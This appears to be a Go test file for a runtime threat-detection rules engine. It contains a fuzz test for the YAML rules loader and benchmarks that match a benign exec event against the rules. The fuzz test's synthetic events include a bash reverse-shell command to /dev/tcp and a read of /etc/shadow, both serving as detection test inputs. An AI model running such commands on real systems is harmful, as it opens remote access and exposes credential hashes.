package rules

import (
	"errors"
	"testing"

	"github.com/vigil-dev/vigil/monitor/event"
)

func FuzzLoad(f *testing.F) {
	// Small seeds: the fuzzer minimises every input that finds new
	// coverage, which is slow for whole rules files.
	f.Add([]byte("- macro: m\n  condition: proc.name in (shells)\n- list: shells\n  items: [bash, '\"sh\"']\n- rule: Shell\n  desc: d\n  condition: >\n    evt.type = execve and m and not user_known\n  output: \"%proc.name %container.info %fd.sip:%fd.sport\"\n  priority: WARNING\n  tags: [a, b]\n- list: user_known\n  items: []\n"))
	f.Add([]byte("- rule: r\n  desc: d\n  condition: fd.snet in (\"10.0.0.0/8\") and fd.sport > 1024 and proc.cmdline regex \"a.*\"\n  output: o\n  priority: INFO\n  source: syscall\n  skip-if-unknown-filter: true\n- rule: r\n  override:\n    priority: replace\n  priority: debug\n"))
	f.Add([]byte(condRule(evalDefs, "proc.name in (more_shells) and fd.sport in (ports) or not proc.aname = x")))
	f.Add([]byte("- rule: r\n  condition: and x\n  append: true\n"))
	f.Add([]byte("- list: a\n  items: [b]\n- list: b\n  items: [a]\n- rule: r\n  desc: d\n  condition: proc.name in (a)\n  output: '%proc.name'\n  priority: INFO\n"))
	f.Add([]byte("- rule: r\n  desc: d\n  condition: evt.type=execve\n  output: o\n  priority: INFO\n  exceptions:\n    - name: e\n      fields: [proc.name, fd.sport]\n      comps: [in, =]\n      values: [[[a, b], 80]]\n"))
	events := []*event.Event{
		execEvent("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
		openEvent("/etc/shadow", true, true),
		connectEvent("93.184.216.34", 4444, "tcp"),
		onHost(baseEvent(event.Exit)),
		{},
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, _, err := Load(Source{Name: "fuzz.yaml", Data: data})
		if rs == nil {
			t.Fatal("Load returned a nil Ruleset")
		}
		if err != nil {
			var es Errors
			if !errors.As(err, &es) || len(es) == 0 {
				t.Fatalf("error %T %v is not Errors", err, err)
			}
			for _, e := range es {
				if e.File != "fuzz.yaml" || e.Err == nil {
					t.Fatalf("error without file or sentinel: %#v", e)
				}
			}
		}
		for _, ev := range events {
			for _, r := range rs.Match(ev) {
				_ = FormatOutput(r, ev)
				_ = OutputFields(r, ev)
			}
		}
		_ = rs.ProcNames(nil)
		_ = rs.FilePaths(nil)
	})
}

// BenchmarkMatch evaluates a realistic exec event (a Python web server
// started by a shell in a Kubernetes pod) against the built-in rules.
func BenchmarkMatch(b *testing.B) {
	rs, _, err := LoadBuiltin()
	if err != nil {
		b.Fatal(err)
	}
	ev := execEvent("python3", "-m", "gunicorn", "app:server", "--bind", "0.0.0.0:8000", "--workers", "4")
	ev.Process.PName = "sh"
	ev.Process.ExePath = "/usr/local/bin/python3.12"
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if m := rs.Match(ev); len(m) != 0 {
			b.Fatalf("benign event matched %v", names(m))
		}
	}
}

// BenchmarkMatchStock is the same event against Falco's stock rules.
func BenchmarkMatchStock(b *testing.B) {
	rs, _, err := Load(stockSources(b)...)
	if err != nil {
		b.Fatal(err)
	}
	ev := execEvent("python3", "-m", "gunicorn", "app:server", "--bind", "0.0.0.0:8000")
	ev.Process.PName = "sh"
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rs.Match(ev)
	}
}
